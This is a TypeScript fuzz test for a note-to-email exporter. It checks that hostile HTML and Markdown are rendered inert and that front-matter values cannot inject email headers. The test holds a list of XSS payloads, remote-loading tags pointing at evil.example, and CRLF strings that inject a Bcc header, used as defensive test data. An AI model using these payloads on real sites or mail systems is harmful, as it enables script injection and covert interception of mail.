// Preview and export safety under fuzzing (fast-check): whatever HTML and Markdown a note holds
// (script, event handlers, javascript:/vbscript:/data: links, remote images, frames, forms, styles,
// SVG, entity-encoded and mixed-case tricks), the HTML used by the preview, the rich copy and the
// .eml is inert: no script, no handler attribute, no dangerous URL, nothing that loads by itself.
// Also: header injection through front-matter values cannot add headers to the .eml.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { parseNote } from '../../server/src/core/document/parse';
import { markdownToHtml } from '../../server/src/core/compose/email/html';
import { emailOf } from '../../server/src/core/compose/email/message';
import { composeEml } from '../../server/src/core/compose/email/eml';
import { FRAGMENTS } from '../helpers/random-notes';
import { report } from '../helpers/report';

const RUNS = Number(process.env.THANKS_EXPORT_FUZZ_RUNS ?? 200);

const HOSTILE_HTML = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<img src=x onerror=alert(1)>', '<IMG SRC="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x]( javascript:alert(1) )', '[x](data:text/html,<script>)',
  '[x](vbscript:x)', '![t](https://evil.example/t.png)', '![t](http://evil.example/t.gif "t")', '<iframe src="https://evil.example"></iframe>', '<object data=x></object>',
  '<embed src=x>', '<svg onload=alert(1)><circle/></svg>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<form action=https://evil.example><input></form>',
  '<base href="https://evil.example/">', '<div style="background:url(https://evil.example/p)">x</div>', '<video src=x></video>', '<audio src=x>', '<body onload=alert(1)>',
  '<a href="https://ok.example" onclick="steal()">ok</a>', '<details open ontoggle=alert(1)>', '<p onmouseover="x()">hover</p>', '"><script>alert(1)</script>', '<!--<script>-->',
  '<img src="https://evil.example/p.png">', '[ref]: javascript:alert(1)\n\n[x][ref]', '<https://ok.example>', '<javascript:alert(1)>', '`<script>`', '```html\n<script>alert(1)</script>\n```',
];

const hostileBody = fc.array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...HOSTILE_HTML) }, { weight: 2, arbitrary: fc.constantFrom(...FRAGMENTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 6 }) }), { minLength: 1, maxLength: 25 }).map((p) => p.join(' '));

/** Everything in `html` that could run, or load, by itself (text is escaped, so every `<` opens a real tag). */
function dangers(html: string): string[] {
  const found: string[] = [];
  const TAG = /<\s*\/?\s*([a-zA-Z][^\s>\/]*)([^>]*)>/g;
  for (let m = TAG.exec(html); m; m = TAG.exec(html)) {
    const [tag, name, attrs] = m;
    if (/^(script|iframe|object|embed|style|link|meta|form|input|base|svg|math|video|audio|img|picture|source|frame|frameset|applet)$/i.test(name)) found.push(`element: ${tag}`);
    if (/(^|\s)on[a-z]+\s*=/i.test(attrs)) found.push(`event handler: ${tag}`);
    if (/(^|\s)style\s*=/i.test(attrs)) found.push(`style attribute: ${tag}`);
    if (/(^|\s)(src|srcset|background|poster|data|action|formaction)\s*=/i.test(attrs)) found.push(`loads by itself: ${tag}`);
    const href = /(^|\s)(?:href|xlink:href)\s*=\s*("([^"]*)"|'([^']*)'|(\S+))/i.exec(attrs);
    if (href) {
      const url = (href[3] ?? href[4] ?? href[5] ?? '').replace(/&#x?[0-9a-f]+;?|&[a-z]+;|[\s\u0000-\u001f]/gi, '').toLowerCase();
      if (/^[a-z][a-z0-9+.-]*:/.test(url) && !/^(https?|mailto|tel):/.test(url)) found.push(`link target: ${tag}`);
    }
  }
  return found;
}

describe('export safety: hostile HTML in a note is inert', function () {
  this.timeout(120_000);
  before(() => report(`export fuzz runs: ${RUNS} bodies, ${Math.ceil(RUNS / 4)} .eml`));

  it('markdownToHtml (preview, rich copy, .eml HTML part) never yields anything that runs or loads', () => {
    fc.assert(
      fc.property(hostileBody, (body) => {
        assert.deepEqual(dangers(markdownToHtml(body)), [], body);
      }),
      { numRuns: RUNS },
    );
  });

  it('each hostile fragment alone is inert, and its words survive as text', () => {
    for (const h of HOSTILE_HTML) assert.deepEqual(dangers(markdownToHtml(`Hello ${h} there.`)), [], h);
    assert.match(markdownToHtml('![tracking](https://evil.example/t.png)'), /tracking/);
  });

  it('the .eml: inert HTML part, and front-matter values cannot inject headers', async () => {
    await fc.assert(
      fc.asyncProperty(hostileBody, fc.constantFrom('Thanks\r\nBcc: spy@evil.example', 'Thanks\nX-Evil: 1', 'Thanks =?utf-8?q?=0D=0ABcc:_x@evil.example?='), async (body, subject) => {
        const note = `---\ninterviewer: Priya Raman\nrole: Designer\nemail: priya@lakeside.example\nsubject: ${JSON.stringify(subject)}\ncandidate: Morgan Ellis\n---\nDear Priya,\n\n${body}\n\nBest regards,\nMorgan Ellis\n`;
        const message = emailOf(parseNote(note));
        assert.deepEqual(dangers(message.html), []);
        const eml = await composeEml(message, { date: new Date(Date.UTC(2026, 10, 25, 9)) });
        const parsed = await simpleParser(eml);
        assert.equal(parsed.bcc, undefined, 'no Bcc header injected');
        assert.equal(parsed.headers.get('x-evil'), undefined, 'no header injected');
        // the document wrapper's own <meta charset> is the one allowed element
        assert.deepEqual(dangers(String(parsed.html || '').replace(/<meta charset="utf-8">/i, '')), []);
        const to = parsed.to && !Array.isArray(parsed.to) ? parsed.to.value.map((a) => a.address) : [];
        assert.deepEqual(to, ['priya@lakeside.example']);
      }),
      { numRuns: Math.ceil(RUNS / 4) },
    );
  });
});
